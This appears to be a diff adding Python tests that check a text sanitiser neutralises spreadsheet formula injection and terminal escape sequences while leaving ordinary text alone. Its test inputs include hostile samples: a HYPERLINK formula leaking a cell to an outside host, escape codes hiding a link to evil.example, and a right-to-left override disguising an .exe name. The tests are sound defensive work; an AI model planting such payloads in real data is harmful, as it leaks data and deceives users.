@@ -1,0 +1,47 @@
+"""Text from sources, made safe for spreadsheets and terminals without changing ordinary text."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from skiptrace.safe_text import REPLACEMENT, spreadsheet_cell, terminal_text
+
+
+@pytest.mark.parametrize(
+    "value",
+    ['=HYPERLINK("http://x/?leak="&A2,"click")', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"],
+)
+def test_a_formula_becomes_text(value: str) -> None:
+    assert spreadsheet_cell(value) == "'" + value
+
+
+@given(st.text())
+def test_ordinary_cells_are_untouched_and_no_cell_starts_a_formula(value: str) -> None:
+    safe = spreadsheet_cell(value)
+    assert not safe.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert safe in (value, "'" + value)
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        "\x1b[2J",  # clear the screen
+        "\x1b]0;owned\x07",  # window title
+        "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",  # a hidden link
+        "\x9b2J",  # C1 CSI
+        "safe\u202egnp.exe",  # right-to-left override
+        "\u2066isolate\u2069",
+        "bell\x07",
+    ],
+)
+def test_escapes_never_reach_a_terminal(hostile: str) -> None:
+    safe = terminal_text(hostile)
+    assert not any(ch in safe for ch in "\x1b\x07\x9b\u202e\u2066\u2069")
+    assert REPLACEMENT in safe
+
+
+def test_ordinary_text_with_accents_tabs_and_newlines_is_untouched() -> None:
+    text = "Zoë Åsa, 12 Harbour Rd\tSpringfield\nIL 62701 — Straße"
+    assert terminal_text(text) == text
